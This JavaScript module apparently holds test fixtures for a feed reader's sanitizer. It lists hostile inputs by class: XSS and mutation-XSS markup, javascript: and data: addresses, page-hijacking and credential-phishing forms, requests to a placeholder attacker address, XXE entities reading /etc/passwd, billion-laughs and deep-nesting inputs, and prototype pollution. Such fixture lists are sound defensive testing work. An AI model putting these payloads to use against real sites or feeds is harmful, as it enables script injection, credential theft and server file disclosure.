/**
 * What a hostile feed may try, by class. `{{bad}}` stands for an address that nobody may ask for; scripts call `bad()`.
 *
 * Written for this project; the classes are those of the HTML and XML standards and of OWASP.
 */

/** Ways in which markup runs something by itself, or when it is loaded, seen, hovered or clicked. */
const running = [
  '<script>bad()</script>',
  '<SCRIPT SRC="{{bad}}"></SCRIPT>',
  '<script/xss>bad()</script >',
  '<scr<script></script>ipt>bad()</script>',
  '<script type="module">import "{{bad}}"</script>',
  '<img src=x onerror=bad()>',
  '<img/src="x"/onerror="bad()">',
  "<img src='x'onerror=bad()//",
  '<img src=x oNeRrOr\n=\nbad()>',
  '<p onclick=bad() onpointerenter=bad() onfocus=bad() tabindex=1 autofocus>handlers</p>',
  '<b style="animation:x" onanimationstart=bad()>animated</b>',
  '<details open ontoggle=bad()><summary>s</summary>d</details>',
  '<video autoplay onloadstart=bad()><source src="{{bad}}" onerror=bad()></video>',
  '<audio src="{{bad}}" autoplay onerror=bad()></audio>',
  '<body onload=bad()><frameset onload=bad()>',
  '<marquee onstart=bad()>moving</marquee>',
  '<input autofocus onfocus=bad()><select autofocus onfocus=bad()><textarea autofocus onfocus=bad()>',
  '<iframe src="javascript:bad()" srcdoc="<script>bad()</script>" onload=bad()></iframe>',
  '<object data="data:text/html,<script>bad()</script>" type="text/html"></object><embed src="javascript:bad()">',
  '<applet code="{{bad}}"></applet><portal src="{{bad}}"></portal>',
  '<svg onload=bad()><script>bad()</script><animate onbegin=bad() attributeName=x dur=1s></svg>',
  '<svg><a xlink:href="javascript:bad()"><text y=9>svg</text></a><use href="{{bad}}#x"/></svg>',
  '<math href="javascript:bad()"><mi xlink:href="javascript:bad()">x</mi></math>',
  '<x-widget onclick=bad()></x-widget><p is="x-widget">custom</p>',
  '<template shadowrootmode="open"><script>bad()</script></template>',
  '<isindex action="javascript:bad()" type=image><keygen autofocus onfocus=bad()>',
];

/** Markup that becomes other markup when it is written and read again. */
const mutating = [
  '<noscript><p title="</noscript><img src=x onerror=bad()>"></noscript>',
  '<svg></p><style><a id="</style><img src=x onerror=bad()>">',
  '<math><mtext><table><mglyph><style><!--</style><img title="--&gt;&lt;img src=x onerror=bad()&gt;">',
  '<form><math><mtext></form><form><mglyph><style></math><img src=x onerror=bad()>',
  '<xmp><p title="</xmp><img src=x onerror=bad()>"></xmp>',
  '<listing>&lt;img src=x onerror=bad()&gt;</listing>',
  '<textarea></textarea><img src=x onerror=bad()></textarea>',
  '<title><a title="</title><img src=x onerror=bad()>"></title>',
  '<plaintext><img src=x onerror=bad()>',
  '<!--><img src=x onerror=bad()>--><!-- --!><img src=x onerror=bad()>',
  '<![CDATA[><img src=x onerror=bad()>]]>',
  '<a title="`<img src=x onerror=bad()>`">backticks</a>',
  '<p title="&quot;&gt;&lt;img src=x onerror=bad()&gt;">quotes</p>',
  '&lt;img src=x onerror=bad()&gt; &amp;lt;script&amp;gt;bad()&amp;lt;/script&amp;gt;',
  '<b\0><scr\0ipt>bad()</scr\0ipt><im\0g src=x onerror=bad()>',
  '<table><td><table><a><svg><desc><td><a><img src=x onerror=bad()>',
  '<select><option><style></select><img src=x onerror=bad()></style>',
  '<p>unclosed <b <i onclick=bad() <img src=x onerror=bad()',
];

/** Markup that takes the page over, or speaks for it. */
const taking = [
  '<style>*{display:none!important}</style><link rel=stylesheet href="{{bad}}">',
  '<p style="position:fixed;inset:0;background:url({{bad}})" class="navbar fixed-top">covered</p>',
  '<base href="{{bad}}"><meta http-equiv=refresh content="0;url={{bad}}">',
  '<form action="{{bad}}"><input name=password type=password><button formaction="{{bad}}">Log in</button></form>',
  '<a id=events name=events href="{{bad}}">clobbered</a><img name=getElementById src="{{bad}}">',
  '<dialog open>dialog</dialog><p popover id=p contenteditable>popover</p><button popovertarget=p>x</button>',
  '<slot name=x></slot><p slot=x part=title exportparts=title>parts</p>',
  '<a href="https://example.com/" target=_top rel=opener ping="{{bad}}" attributionsrc="{{bad}}" download>link</a>',
  '</article></li></ul></section></div><p>closed</p>',
  '<h1>An enormous heading</h1>',
  `${'<div>'.repeat(5000)}deep${'</div>'.repeat(5000)}`,
  '<b>'.repeat(5000),
  '<table>'.repeat(500),
  `<p ${'a=1 '.repeat(20000)}>attributes</p>`,
  '<img '.repeat(20000),
];

/** Markup that asks somebody for something: nothing may leave, but for pictures where they are wanted. */
const asking = [
  '<img srcset="{{bad}} 1x, {{bad}} 2x" sizes=1px><picture><source srcset="{{bad}}"></picture>',
  '<img src="data:image/svg+xml,<svg onload=bad()>"><img src="blob:{{bad}}">',
  '<img src="{{bad}}" width=1 height=1><img src="{{bad}}" width=0>',
  '<img lowsrc="{{bad}}" dynsrc="{{bad}}" longdesc="{{bad}}" usemap="#m" ismap>',
  '<body background="{{bad}}"><table background="{{bad}}"><td background="{{bad}}">cell</table>',
  '<link rel=preconnect href="{{bad}}"><link rel=dns-prefetch href="{{bad}}"><link rel=preload as=image href="{{bad}}">',
  '<video poster="{{bad}}" src="{{bad}}"><track src="{{bad}}" default></video>',
  '<svg><image href="{{bad}}"/><feImage href="{{bad}}"/></svg><input type=image src="{{bad}}">',
  '<blockquote cite="{{bad}}">cited</blockquote><q cite="{{bad}}">q</q><del cite="{{bad}}">d</del>',
];

/** Addresses that are no place to go. */
export const addresses = [
  'javascript:bad()',
  ' \u0001 JaVaScRiPt:bad()',
  'java\tscript:bad()',
  'java\nscript\r:bad()',
  '\u200bjavascript:bad()',
  'javascript://example.com/%0abad()',
  'javascript&colon;bad()',
  '&#106;avascript:bad()',
  'data:text/html,<script>bad()</script>',
  'vbscript:bad()',
  'blob:https://example.com/x',
  'filesystem:https://example.com/x',
  'file:///etc/passwd',
  'view-source:https://example.com/',
  'feed:javascript:bad()',
  'https://user:password@example.com/',
  'https:\\\\example.com\\x',
  '//example.com/\u202egnp.exe',
  '"><img src=x onerror=bad()>',
  '#x" onclick="bad()',
  '',
];

/** What stands where a feed has plain text. */
export const texts = [
  '<script>bad()</script>Text',
  '<img src=x onerror=bad()>Text',
  '&lt;img src=x onerror=bad()&gt;Text',
  '&amp;lt;svg onload=bad()&amp;gt;Text',
  '"><b onclick=bad()>Text',
  "Text' onfocus='bad()",
  '</title></h2><style>*{display:none}</style>Text',
  '{{constructor.constructor("bad()")()}} ${bad()} Text',
  '\u202eText\u2066\u200b\u0000\u0007',
  'javascript:bad() Text',
  'Text '.repeat(20_000),
  `Text${'\u0351'.repeat(50_000)}`,
  '__proto__',
  'constructor',
];

export const markups = [
  ...running,
  ...mutating,
  ...taking,
  ...asking,
  ...addresses.map((address) => `<a href="${address.replaceAll('"', '&quot;')}">address</a>`),
  ...addresses.map((address) => `<a href='${address.replaceAll("'", '&#39;')}'><img src='${address.replaceAll("'", '&#39;')}'></a>`),
];

/** Documents that try to read files, to grow, to load, or to break the reader; each has the post `Whole` in it. */
export const documents = {
  'an external entity': `<!DOCTYPE rss [<!ENTITY x SYSTEM "file:///etc/passwd"><!ENTITY y SYSTEM "{{bad}}">]>
    <rss><channel><title>&x;&y;</title><item><title>Whole</title></item></channel></rss>`,
  'an external type': `<!DOCTYPE rss SYSTEM "{{bad}}"><rss><channel><item><title>Whole</title></item></channel></rss>`,
  'a billion laughs': `<!DOCTYPE rss [<!ENTITY a "${'ha'.repeat(50)}">${[...'bcdefghi']
    .map((name, index) => `<!ENTITY ${name} "${`&${'abcdefgh'[index]};`.repeat(10)}">`)
    .join('')}]><rss><channel><title>&i;</title><item><title>Whole</title></item></channel></rss>`,
  'one long entity, often': `<!DOCTYPE rss [<!ENTITY a "${'x'.repeat(50_000)}">]><rss><channel><title>${'&a;'.repeat(5000)}</title>
    <item><title>Whole</title></item></channel></rss>`,
  'a style sheet': `<?xml-stylesheet type="text/xsl" href="{{bad}}"?><rss><channel><item><title>Whole</title></item></channel></rss>`,
  'elements without end': `<rss><channel><item><title>Whole</title></item>${'<a>'.repeat(200_000)}`,
  'attributes without end': `<rss><channel><item><title>Whole</title></item><item ${'a="b" '.repeat(200_000)}`,
  'a base of a script': `<rss xml:base="javascript:bad()//"><channel><item><title>Whole</title><link>x</link></item></channel></rss>`,
  'elements of HTML': `<rss xmlns:h="http://www.w3.org/1999/xhtml"><channel><h:script>bad()</h:script><h:img src="x" onerror="bad()"/>
    <item><title>Whole</title><description><h:script>bad()</h:script></description></item></channel></rss>`,
  'a poisoned prototype': JSON.stringify({
    version: 'https://jsonfeed.org/version/1.1',
    title: 'x',
    items: [{ id: '1', title: 'Whole', constructor: { prototype: { bad: 1 } } }],
  }).replace('"title":"x"', '"__proto__":{"bad":1},"title":"x"'),
  'a deep document of JSON': `{"version":"https://jsonfeed.org/version/1.1","items":[{"id":"1","title":"Whole"}],"x":${'['.repeat(200_000)}`,
};
